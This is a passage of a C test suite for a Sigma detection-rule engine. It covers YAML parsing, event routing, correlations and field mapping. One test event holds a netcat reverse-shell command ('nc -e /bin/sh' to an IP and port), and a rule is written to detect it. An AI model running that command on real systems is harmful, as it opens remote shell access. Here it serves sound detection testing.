	    "    product: t\n", &r);
	CHECK(strstr(r->reason, "action") != NULL);
	sigma_set_free(set);
	TEST_END();
}

static void
test_bad_yaml(void)
{
	static const char	 multi[] =
	    "title: a\nlogsource: {product: t}\n"
	    "detection: {k: [x], condition: k}\n---\n"
	    "title: b\nlogsource: {product: t}\n"
	    "detection: {k: [y], condition: k}\n---\n"
	    "- not a map\n";
	struct sigma_set	*set;
	struct sigma_rule	*r;
	char			*big, *deep;
	size_t			 i, o;

	TEST_BEGIN("bad-yaml-syntax");
	set = one_rule(tmap, "title: [unclosed\n", &r);
	CHECK_INT(r->state, SIGMA_INVALID);
	CHECK(strncmp(r->reason, "YAML line", 9) == 0);
	sigma_set_free(set);
	TEST_END();

	TEST_BEGIN("bad-yaml-alias");
	set = one_rule(tmap, "title: &t x\nname: *t\n", &r);
	CHECK_INT(r->state, SIGMA_INVALID);
	CHECK(strstr(r->reason, "not supported") != NULL);
	sigma_set_free(set);
	TEST_END();

	TEST_BEGIN("bad-yaml-deep");
	if ((deep = malloc(4096)) == NULL)
		exit(1);
	for (i = 0, o = 0; i < 100; i++)
		deep[o++] = '[';
	for (i = 0; i < 100; i++)
		deep[o++] = ']';
	deep[o] = '\0';
	set = one_rule(tmap, deep, &r);
	CHECK_INT(r->state, SIGMA_INVALID);
	CHECK(strstr(r->reason, "nested deeper") != NULL);
	sigma_set_free(set);
	free(deep);
	TEST_END();

	TEST_BEGIN("bad-yaml-too-large");
	if ((big = malloc(SIGMA_MAX_FILE + 2)) == NULL)
		exit(1);
	memset(big, '#', SIGMA_MAX_FILE + 1);
	big[SIGMA_MAX_FILE + 1] = '\0';
	set = one_rule(tmap, big, &r);
	CHECK_INT(r->state, SIGMA_INVALID);
	CHECK(strstr(r->reason, "larger than") != NULL);
	sigma_set_free(set);
	free(big);
	TEST_END();

	TEST_BEGIN("yaml-multi-document");
	set = sigma_set_new(tmap);
	CHECK_INT(sigma_set_add_file(set, "m.yml", multi, strlen(multi)), 3);
	sigma_set_compile(set);
	CHECK_INT(sigma_set_count(set), 3);
	CHECK_INT(sigma_set_rule(set, 0)->state, SIGMA_LOADED);
	CHECK_INT(sigma_set_rule(set, 1)->state, SIGMA_LOADED);
	CHECK_INT(sigma_set_rule(set, 1)->doc, 1);
	CHECK_INT(sigma_set_rule(set, 2)->state, SIGMA_INVALID);
	sigma_set_free(set);
	TEST_END();

	TEST_BEGIN("bad-yaml-not-utf8");
	set = one_rule(tmap, "title: \xff\xfe\n", &r);
	CHECK_INT(r->state, SIGMA_INVALID);
	sigma_set_free(set);
	TEST_END();
}

static void
count_hit(const struct sigma_rule *r, void *arg)
{
	(*(int *)arg)++;
}

static void
test_routing(void)
{
	struct sigma_set	*set;
	struct sigma_rule	*r;
	struct siem_event	 ev;
	struct sigma_event	 se;
	int			 n = 0;

	TEST_BEGIN("routing-service");
	set = one_rule(tmap, "title: x\nlogsource:\n    product: linux\n"
	    "    service: sshd\ndetection:\n    k: ['Corrupted MAC']\n"
	    "    condition: k\n", &r);
	CHECK_INT(r->state, SIGMA_LOADED);
	build_event(&ev, "app=sshd;message=Corrupted MAC on input.");
	sigma_event_from_event(&se, &ev);
	CHECK_INT(sigma_match(set, &se, count_hit, &n), 1);
	CHECK_INT(n, 1);
	sigma_event_done(&se);
	event_clear(&ev);
	build_event(&ev, "app=cron;message=Corrupted MAC on input.");
	sigma_event_from_event(&se, &ev);
	CHECK_INT(sigma_match(set, &se, NULL, NULL), 0);
	sigma_event_done(&se);
	event_clear(&ev);
	sigma_set_free(set);
	TEST_END();

	TEST_BEGIN("bad-routing-unmapped-logsource");
	set = one_rule(tmap, "title: x\nlogsource:\n    product: windows\n"
	    "    category: process_creation\ndetection:\n    k: [a]\n"
	    "    condition: k\n", &r);
	CHECK_INT(r->state, SIGMA_SKIPPED);
	CHECK_STR(r->reason, "logsource product=windows "
	    "category=process_creation not mapped");
	sigma_set_free(set);
	TEST_END();
}

/* The packed form the correlate process gets gives the same answers. */
static void
test_view(void)
{
	struct sigma_set	*set;
	struct sigma_rule	*r;
	struct siem_event	 ev;
	struct sigma_event	 se;
	struct wire_buf		 wb;
	struct event_view	 v;
	const uint8_t		*p;
	size_t			 left;
	char			*yaml;

	TEST_BEGIN("event-view");
	yaml = rule_text("    product: t\n", "s:\n  CommandLine|contains: "
	    "'-enc'\n  Nested: x\n  Status|gte: 400\n  Uri|endswith: '?a=1'\n"
	    "condition: s");
	set = one_rule(tmap, yaml, &r);
	free(yaml);
	CHECK_INT(r->state, SIGMA_LOADED);
	build_event(&ev, "process_cmdline=ps -enc AAA;http_status=404;"
	    "http_path=/p;http_query=a=1;data={\"a\":{\"b\":\"x\"}}");
	memset(&wb, 0, sizeof(wb));
	CHECK(event_pack(&wb, &ev, 0, 1) == 0);
	p = wb.buf;
	left = wb.len;
	CHECK(event_view_next(&p, &left, &v) == 1);
	sigma_event_from_view(&se, &v);
	CHECK_INT(sigma_match(set, &se, NULL, NULL), 1);
	sigma_event_done(&se);
	/* and a miss through the view */
	event_clear(&ev);
	wire_reset(&wb);
	build_event(&ev, "process_cmdline=ps -enc AAA;http_status=200;"
	    "http_path=/p;http_query=a=1;data={\"a\":{\"b\":\"x\"}}");
	CHECK(event_pack(&wb, &ev, 0, 1) == 0);
	p = wb.buf;
	left = wb.len;
	CHECK(event_view_next(&p, &left, &v) == 1);
	sigma_event_from_view(&se, &v);
	CHECK_INT(sigma_match(set, &se, NULL, NULL), 0);
	sigma_event_done(&se);
	wire_free(&wb);
	event_clear(&ev);
	sigma_set_free(set);
	TEST_END();
}

static void
test_explain_stats(void)
{
	struct sigma_set	*set;
	struct sigma_rule	*r;
	struct siem_event	 ev;
	struct sigma_event	 se;
	json_t			*j, *s;
	char			*yaml;

	TEST_BEGIN("explain");
	yaml = rule_text("    product: t\n", "sel:\n  CommandLine|contains:"
	    " 'curl'\nfilter:\n  User: root\ncondition: sel and not filter");
	set = one_rule(tmap, yaml, &r);
	free(yaml);
	build_event(&ev, "process_cmdline=curl evil;user_id=root");
	sigma_event_from_event(&se, &ev);
	CHECK_INT(sigma_explain(r, &se, &j), 0);
	CHECK(json_is_false(json_object_get(j, "matched")));
	s = json_object_get(j, "searches");
	CHECK_INT(json_array_size(s), 2);
	CHECK_STR(json_string_value(json_object_get(json_array_get(s, 0),
	    "name")), "sel");
	CHECK(json_is_true(json_object_get(json_array_get(s, 0),
	    "matched")));
	CHECK(json_is_true(json_object_get(json_array_get(s, 1),
	    "matched")));
	CHECK_STR(json_string_value(json_object_get(j, "condition")),
	    "sel and not filter");
	CHECK(json_is_true(json_object_get(json_object_get(j, "prefilter"),
	    "passed")));
	json_decref(j);
	sigma_event_done(&se);
	event_clear(&ev);
	TEST_END();

	TEST_BEGIN("stats-and-prefilter");
	memset(&r->stats, 0, sizeof(r->stats));
	build_event(&ev, "process_cmdline=wget x;user_id=bob");
	sigma_event_from_event(&se, &ev);
	CHECK_INT(sigma_match(set, &se, NULL, NULL), 0);
	sigma_event_done(&se);
	event_clear(&ev);
	build_event(&ev, "process_cmdline=curl x;user_id=bob");
	sigma_event_from_event(&se, &ev);
	CHECK_INT(sigma_match(set, &se, NULL, NULL), 1);
	sigma_event_done(&se);
	event_clear(&ev);
	/* "wget" lacks the literal "curl": never evaluated */
	CHECK_INT(r->stats.prefiltered, 1);
	CHECK_INT(r->stats.evaluated, 1);
	CHECK_INT(r->stats.matched, 1);
	sigma_set_free(set);
	TEST_END();
}

static void
test_filters(void)
{
	static const char	 yaml[] =
	    "title: r\nid: rule-1\nlogsource: {product: t}\n"
	    "detection:\n    s: {CommandLine|contains: curl}\n"
	    "    condition: s\n"
	    "---\n"
	    "title: f\nlogsource: {product: t}\n"
	    "filter:\n    rules: [rule-1]\n    s: {User: deploy}\n"
	    "    condition: s\n";
	struct sigma_set	*set;
	struct siem_event	 ev;
	struct sigma_event	 se;

	TEST_BEGIN("filter-excludes");
	set = sigma_set_new(tmap);
	sigma_set_add_file(set, "f.yml", yaml, strlen(yaml));
	sigma_set_compile(set);
	CHECK_INT(sigma_set_rule(set, 1)->kind, SIGMA_FILTER);
	CHECK_INT(sigma_set_rule(set, 1)->state, SIGMA_LOADED);
	build_event(&ev, "process_cmdline=curl x;user_id=deploy");
	sigma_event_from_event(&se, &ev);
	CHECK_INT(sigma_match(set, &se, NULL, NULL), 0);
	sigma_event_done(&se);
	event_clear(&ev);
	build_event(&ev, "process_cmdline=curl x;user_id=eve");
	sigma_event_from_event(&se, &ev);
	CHECK_INT(sigma_match(set, &se, NULL, NULL), 1);
	sigma_event_done(&se);
	event_clear(&ev);
	sigma_set_free(set);
	TEST_END();

	TEST_BEGIN("bad-filter-unknown-rule");
	set = sigma_set_new(tmap);
	sigma_set_add_file(set, "f.yml", strstr(yaml, "title: f"),
	    strlen(strstr(yaml, "title: f")));
	sigma_set_compile(set);
	CHECK_INT(sigma_set_rule(set, 0)->state, SIGMA_INVALID);
	CHECK(strstr(sigma_set_rule(set, 0)->reason, "unknown rule") !=
	    NULL);
	sigma_set_free(set);
	TEST_END();
}

static void
test_correlations(void)
{
	static const char	 chain[] =
	    "title: brute then success\nid: c-1\nlevel: high\n"
	    "correlation:\n    type: temporal_ordered\n"
	    "    rules: [many_failed, success]\n    group-by: [User]\n"
	    "    timespan: 10m\n"
	    "---\n"
	    "title: many failed\nname: many_failed\n"
	    "correlation:\n    type: event_count\n    rules: [failed]\n"
	    "    group-by: [User]\n    timespan: 10m\n"
	    "    condition: {gte: 10}\n"
	    "---\n"
	    "title: failed\nname: failed\nlogsource: {product: t}\n"
	    "detection: {s: {CommandLine: fail}, condition: s}\n"
	    "---\n"
	    "title: success\nname: success\nlogsource: {product: t}\n"
	    "detection: {s: {CommandLine: ok}, condition: s}\n";
	static const char	*bad[][2] = {
		{ "correlation: {type: event_count, rules: [x], timespan: 1h,"
		    " condition: {gte: 1}}", "references unknown rule 'x'" },
		{ "correlation: {type: sometimes, rules: [x], timespan: 1h}",
		    "unknown type" },
		{ "correlation: {type: temporal, rules: [x], timespan: soon}",
		    "timespan" },
		{ "correlation: {type: event_count, rules: [x], timespan: 1h}",
		    "needs a condition" },
		{ "correlation: {type: value_count, rules: [x], timespan: 1h,"
		    " condition: {gt: 3}}", "with a field" },
		{ "correlation: {type: event_count, rules: [x], timespan: 1h,"
		    " condition: {about: 3}}", "condition must be" },
		{ "correlation: {type: temporal, timespan: 1h}",
		    "rules missing" },
	};
	struct sigma_set	*set;
	struct sigma_rule	*c;
	char			 doc[512];
	size_t			 i;

	TEST_BEGIN("correlation-chain");
	set = sigma_set_new(tmap);
	CHECK_INT(sigma_set_add_file(set, "c.yml", chain, strlen(chain)), 4);
	sigma_set_compile(set);
	c = sigma_set_rule(set, 0);
	CHECK_INT(c->state, SIGMA_LOADED);
	CHECK_INT(c->corr->type, SIGMA_CORR_TEMPORAL_ORDERED);
	CHECK(c->corr->refs[0] == sigma_set_rule(set, 1));
	CHECK(c->corr->refs[1] == sigma_set_rule(set, 3));
	CHECK_INT(c->corr->timespan, 600);
	CHECK_INT(sigma_set_rule(set, 1)->corr->cmp, SIGMA_CMP_GTE);
	CHECK(sigma_set_rule(set, 1)->corr->gte == 10);
	CHECK(sigma_set_find(set, "failed") == sigma_set_rule(set, 2));
	CHECK_INT(sigma_set_rule(set, 2)->standalone, 0);
	sigma_set_free(set);
	TEST_END();

	TEST_BEGIN("bad-correlation-cycle");
	set = sigma_set_new(tmap);
	snprintf(doc, sizeof(doc), "title: a\nname: a\ncorrelation: {type: "
	    "temporal, rules: [b], timespan: 1m}\n---\ntitle: b\nname: b\n"
	    "correlation: {type: temporal, rules: [a], timespan: 1m}\n");
	sigma_set_add_file(set, "cy.yml", doc, strlen(doc));
	sigma_set_compile(set);
	CHECK_INT(sigma_set_rule(set, 0)->state, SIGMA_INVALID);
	CHECK(strstr(sigma_set_rule(set, 0)->reason, "circular") != NULL);
	sigma_set_free(set);
	TEST_END();

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		snprintf(doc, sizeof(doc), "title: bad\n%s\n", bad[i][0]);
		TEST_BEGIN("bad-correlation");
		set = sigma_set_new(tmap);
		sigma_set_add_file(set, "b.yml", doc, strlen(doc));
		sigma_set_compile(set);
		c = sigma_set_rule(set, 0);
		CHECK_INT(c->state, SIGMA_INVALID);
		if (strstr(c->reason, bad[i][1]) == NULL)
			printf("# reason \"%s\", want \"%s\"\n", c->reason,
			    bad[i][1]);
		CHECK(strstr(c->reason, bad[i][1]) != NULL);
		sigma_set_free(set);
		TEST_END();
	}
}

static void
test_mapping_file(void)
{
	struct sigma_map	*m;
	char			 err[SIGMA_REASON_LEN];
	static const char	*bad[][2] = {
		{ "logsources:\n  - name: x\n    product: p\n    fields:\n"
		    "      A: nowhere\n", "unknown column 'nowhere'" },
		{ "logsources:\n  - name: x\n", "without product" },
		{ "logsources:\n  - product: p\n    when: {colour: red}\n",
		    "unknown column" },
		{ "logsources:\n  - product: p\n    fields-from: y\n",
		    "no earlier logsource" },
		{ "nonsense: 1\n", "unknown key" },
		{ "logsources:\n  - product: p\n    fields: {'*': other}\n",
		    "can only map to data.*" },
	};
	size_t			 i;

	TEST_BEGIN("mapping-missing-file");
	CHECK(sigma_map_load("/nonexistent/sigma-mapping.yml", err,
	    sizeof(err)) == NULL);
	CHECK(strstr(err, "No such file") != NULL);
	TEST_END();

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		TEST_BEGIN("bad-mapping");
		err[0] = '\0';
		m = sigma_map_load_buf(bad[i][0], strlen(bad[i][0]), err,
		    sizeof(err));
		CHECK(m == NULL);
		if (strstr(err, bad[i][1]) == NULL)
			printf("# \"%s\", want \"%s\"\n", err, bad[i][1]);
		CHECK(strstr(err, bad[i][1]) != NULL);
		sigma_map_free(m);
		TEST_END();
	}
}

/* The shipped file and the built-in copy are the same text. */
static void
test_default_map(void)
{
	struct sigma_map	*m, *d;
	struct sigma_set	*set;
	struct sigma_rule	*r;
	struct siem_event	 ev;
	struct sigma_event	 se;
	char			 err[SIGMA_REASON_LEN], *buf;
	FILE			*fp;
	size_t			 n;

	TEST_BEGIN("mapping-shipped-equals-built-in");
	CHECK((fp = fopen("etc/sigma-mapping.yml", "r")) != NULL);
	if (fp != NULL) {
		buf = calloc(1, SIGMA_MAX_FILE);
		n = fread(buf, 1, SIGMA_MAX_FILE - 1, fp);
		fclose(fp);
		CHECK_INT(n, strlen(sigma_map_default_text()));
		CHECK(strcmp(buf, sigma_map_default_text()) == 0);
		free(buf);
	}
	CHECK((m = sigma_map_load("etc/sigma-mapping.yml", err,
	    sizeof(err))) != NULL);
	d = sigma_map_default();
	CHECK(m != NULL && sigma_map_entries(m) == sigma_map_entries(d));
	sigma_map_free(m);
	TEST_END();

	TEST_BEGIN("mapping-default-process-creation");
	set = one_rule(d, "title: x\nlogsource: {product: linux, category: "
	    "process_creation}\ndetection:\n    s:\n"
	    "        Image|endswith: '/nc'\n"
	    "        CommandLine|contains: ' -e '\n    condition: s\n", &r);
	CHECK_INT(r->state, SIGMA_LOADED);
	build_event(&ev, "event_type=process_start;process_exe=/usr/bin/nc;"
	    "process_cmdline=nc -e /bin/sh 1.2.3.4 4444");
	sigma_event_from_event(&se, &ev);
	CHECK_INT(sigma_match(set, &se, NULL, NULL), 1);
	sigma_event_done(&se);
	event_clear(&ev);
	/* the same fields in an HTTP event are not a process start */
	build_event(&ev, "event_type=http_request;process_exe=/usr/bin/nc;"
	    "process_cmdline=nc -e /bin/sh 1.2.3.4 4444");
	sigma_event_from_event(&se, &ev);
	CHECK_INT(sigma_match(set, &se, NULL, NULL), 0);
	sigma_event_done(&se);
	event_clear(&ev);
	sigma_set_free(set);
	TEST_END();

	TEST_BEGIN("bad-mapping-default-file-event-field");
	set = one_rule(d, "title: x\nlogsource: {product: linux, category: "
	    "file_event}\ndetection:\n    s:\n        Hashes: abc\n"
	    "    condition: s\n", &r);
	CHECK_INT(r->state, SIGMA_SKIPPED);
	CHECK_STR(r->reason, "field Hashes not mapped for product=linux "
	    "category=file_event");
	sigma_set_free(set);
	TEST_END();

	TEST_BEGIN("mapping-default-auditd-passthrough");
	set = one_rule(d, "title: x\nlogsource: {product: linux, service: "
	    "auditd}\ndetection:\n    s:\n        type: EXECVE\n"
	    "        a0: chattr\n        a1|startswith: '-'\n"
	    "    condition: s\n", &r);
	CHECK_INT(r->state, SIGMA_LOADED);
	build_event(&ev, "source_type=audit;app=auditd;data={\"type\":"
	    "\"EXECVE\",\"a0\":\"chattr\",\"a1\":\"-i\"}");
	sigma_event_from_event(&se, &ev);
	CHECK_INT(sigma_match(set, &se, NULL, NULL), 1);
	sigma_event_done(&se);
	event_clear(&ev);
	sigma_set_free(set);
	sigma_map_free(d);
	TEST_END();
}

/*
 * A set holds its mapping: the owner may let go first (a reload does)
 * and the set still matches; the last to let go frees it (ASan run).
 */
static void
test_map_held(void)
{
	struct sigma_map	*m;
	struct sigma_set	*set;
	struct sigma_rule	*r;
	struct siem_event	 ev;
	struct sigma_event	 se;
	char			 err[SIGMA_REASON_LEN];

	TEST_BEGIN("map-held-by-set");
	m = sigma_map_load_buf(test_map_text, strlen(test_map_text), err,
	    sizeof(err));
	CHECK(m != NULL);
	set = one_rule(m, "title: held\nlogsource: {product: t}\n"
	    "detection:\n    s: {User|expand: '%Admins%'}\n"
	    "    condition: s\n", &r);
	CHECK_INT(r->state, SIGMA_LOADED);
	sigma_map_free(m);
	build_event(&ev, "user_id=root");
	sigma_event_from_event(&se, &ev);
	CHECK_INT(sigma_match(set, &se, NULL, NULL), 1);
	sigma_event_done(&se);
	event_clear(&ev);
	sigma_set_free(set);
	TEST_END();
}

int
main(void)
{
	char	 err[SIGMA_REASON_LEN];

	if ((tmap = sigma_map_load_buf(test_map_text, strlen(test_map_text),
	    err, sizeof(err))) == NULL) {
		printf("FAIL test-map: %s\n", err);
		return (1);
	}
	test_cases();
	test_meta();
	test_bad_yaml();
	test_routing();
	test_view();
	test_explain_stats();
	test_filters();
	test_correlations();
	test_mapping_file();
	test_default_map();
	test_map_held();
	sigma_map_free(tmap);
	TEST_EXIT();
}
